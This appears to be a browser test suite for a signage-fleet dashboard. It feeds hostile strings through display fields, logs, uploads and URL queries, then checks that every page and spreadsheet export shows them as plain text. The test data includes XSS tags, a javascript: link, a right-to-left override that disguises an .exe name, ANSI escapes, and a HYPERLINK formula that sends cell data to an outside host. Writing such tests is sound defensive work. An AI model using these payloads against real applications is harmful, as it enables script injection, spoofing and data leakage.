"""Names and texts from displays, files and people are shown as text: no tag, no script, no hidden or reversed text."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from playwright.sync_api import FilePayload, Page, expect
from sqlalchemy import Engine

from displays.simulated.simulated import SimulatedDisplay
from shared.names import folded
from tests.browser.conftest import Enter, online_display, uuid_of
from tests.browser.fleets import inserted
from tests.browser.test_every_page import come_to_rest
from tests.browser.test_exports import rows_of
from tests.stack import Stack, eventually

TAG = '<img src=x onerror="document.title=1">'
SCRIPT = "</code><script>document.title=2</script>"
LINK = '"><a href="javascript:document.title=3">x</a>'
TURNED = "invoice\u202egpj.exe"
COLOURED = "\u001b[31mred\u001b[0m\u0007"
HOSTILE = (TAG, SCRIPT, LINK, TURNED, COLOURED)
ALL = " ".join(HOSTILE)
SHOWN = ALL.replace("\u202e", "‹U+202E›").replace("\u001b", "␛").replace("\u0007", "␇")
ODD_TIMES = sa.text(
    """
    UPDATE clients SET mqtt_last_disconnect_at = odd.at FROM (
        SELECT uuid, CAST((ARRAY['1969-12-31T23:59:59.000001Z', '2099-02-28T23:59:59.12Z', '9999-12-31T23:59:59Z'])[
            CAST(row_number() OVER (ORDER BY uuid COLLATE "C") AS int)] AS timestamptz) AS at
        FROM unnest(CAST(:uuids AS text[])) AS uuid) AS odd
    WHERE clients.uuid = odd.uuid
    """
)
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.fixture(scope="module")
def display(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimulatedDisplay]:
    """A display that sends hostile text in every field that it can fill."""
    api = stack.api()
    with online_display(api, tmp_path_factory.mktemp("display")) as online:
        path = f"/api/clients/{uuid_of(online)}"
        api.call("PATCH", path, json={"name": ALL, "site": TURNED + TAG, "notes": ALL, "tags": [TAG]})
        online.log("error", ALL, logger=TAG)
        online.log("error", FORMULA)
        online.service_failed(f"{TAG} {TURNED}")
        online.health(
            screen_health="black",
            app_version=TAG,
            hostname=f"=1+1 {SCRIPT}",
            ip="10.1.2.3",
            os=f"{LINK} {TURNED}",
            cpu_percent=1,
        )
        logs = f"/api/client-logs/{uuid_of(online)}/logs"
        eventually(lambda: len(api.get(logs)["items"]) == 2 and api.get(path)["health"], "all that it said")
        yield online


def is_text(page: Page) -> bool:
    """Whether none of these texts was interpreted as anything but text."""
    own = "img:not([src='icon.svg']):not([src^='/api/event-media/']), script:not([src='app.js']), a[href^='javascript']"
    seen = re.findall(r"[\u202a-\u202e\u2066-\u2069\u001b\u0007]", page.locator("body").inner_text())
    return page.locator(own).count() == 0 and page.title().endswith("Signage Fleet") and seen == []


def test_every_view_and_tab_shows_it_as_text(enter: Enter, display: SimulatedDisplay) -> None:
    watched = enter()
    page = watched.page
    one = f"d={uuid_of(display)}"
    for address, proof in (
        ("/", "document.title=1"),
        (f"/?{one}&tab=logs", "document.title=2"),
        (f"/?{one}&tab=events", "gpj.exe"),
        (f"/?{one}&tab=health", "‹U+202E›gpj.exe"),
        (f"/?{one}&tab=commands", "No command has been sent"),
        ("/?v=logs", "␛[31mred␛[0m␇"),
        (f"/?v=logs&c={uuid_of(display)}", "␛[31mred␛[0m␇"),
        ("/?v=settings", "Values in force"),
    ):
        watched.follow(address)
        expect(page.get_by_text(proof).first).to_be_visible()
        come_to_rest(page)
        assert is_text(page), address


# Reads the packed form as the page does, between two reads of the form for scripts.
READ = """async () => {
  const { unpack } = await import('/lib/packed.js');
  const ask = async (form) => (await fetch(`/api/monitoring/overview?hb=1&format=${form}`)).json();
  const [before, packed, after] = [await ask('objects'), await ask('packed'), await ask('objects')];
  return { before: before.clients, after: after.clients, read: unpack(packed.packed, packed.server_time),
    beatsBefore: before.heartbeats, beatsAfter: after.heartbeats,
    beats: unpack(packed.packed_heartbeats, packed.server_time).map((one) => [one.uuid, one.last_heartbeat_at]) };
}"""


def test_the_page_reads_every_display_as_scripts_are_told_of_it(
    enter: Enter, display: SimulatedDisplay, database: Engine
) -> None:
    page = enter().page
    with inserted(database, TAG, 3, spread=30) as odd:
        with database.begin() as connection:
            connection.execute(ODD_TIMES, {"uuids": odd.uuids})
        asked = eventually(lambda: undisturbed(page.evaluate(READ)), "three answers between which nothing happened")

    assert asked["read"] == asked["before"]
    assert sorted(asked["beats"]) == sorted(asked["beatsBefore"])
    told = {client["uuid"]: client for client in asked["read"]}
    assert told[uuid_of(display)]["name"] == folded(ALL)
    assert [told[uuid]["mqtt_last_disconnect_at"] for uuid in sorted(odd.uuids)] == [
        "1969-12-31T23:59:59.000001Z",
        "2099-02-28T23:59:59.120000Z",
        "9999-12-31T23:59:59Z",
    ]


def undisturbed(asked: dict[str, Any]) -> dict[str, Any] | None:
    same = asked["before"] == asked["after"] and asked["beatsBefore"] == asked["beatsAfter"]
    return asked if same else None


def test_names_hide_nothing_and_messages_show_what_they_hide_as_signs(enter: Enter, display: SimulatedDisplay) -> None:
    page = enter(f"/?d={uuid_of(display)}&tab=logs").page

    expect(page.locator(".panel-head h2")).to_have_text(folded(ALL))
    expect(page.locator(".panel .log-message").filter(has_text="gpj.exe")).to_contain_text(SHOWN)
    expect(page.get_by_role("region", name="Service failed").locator("code")).to_contain_text(folded(TURNED))
    read_out = page.locator("[title], [aria-label]").evaluate_all(
        "all => all.map(one => `${one.getAttribute('title')} ${one.getAttribute('aria-label')}`)"
    )
    assert not any("\u202e" in said or "\u001b" in said for said in read_out)


def test_a_file_may_be_called_anything_and_a_query_in_the_address_too(enter: Enter) -> None:
    watched = enter("/?v=conversions&q=%3Cimg%20src=x%20onerror=alert(1)%3E")
    page = watched.page
    watched.expect_answer(422, "/api/event-media$")
    name = f"{TAG} {TURNED} {COLOURED}.pptx"

    page.get_by_label("Choose files").set_input_files(FilePayload(name=name, mimeType="", buffer=b"no zip"))

    expect(page.get_by_role("list", name="Uploads")).to_contain_text("‹U+202E›gpj.exe")
    assert is_text(page)
    watched.expect_answer(404, "/api/clients/")
    page = watched.open(f"/?q={TAG}&status={TAG}&sort={TAG}&d={TAG}&tab={TAG}&v={TAG}")
    expect(page.get_by_label("Search displays")).to_have_value(TAG)
    expect(page.get_by_text("There is no display with this uuid")).to_be_visible()
    assert is_text(page)


@pytest.mark.parametrize("address", ["/?q={uuid}", "/?v=logs&c={uuid}"])
def test_a_spreadsheet_takes_none_of_it_for_a_formula(
    enter: Enter, display: SimulatedDisplay, database: Engine, address: str
) -> None:
    page = enter(address.format(uuid=uuid_of(display))).page

    cells = [cell for row in rows_of(page) for cell in row]

    assert any("onerror" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell] == []
    assert ("'" + FORMULA in cells) == ("logs" in address)
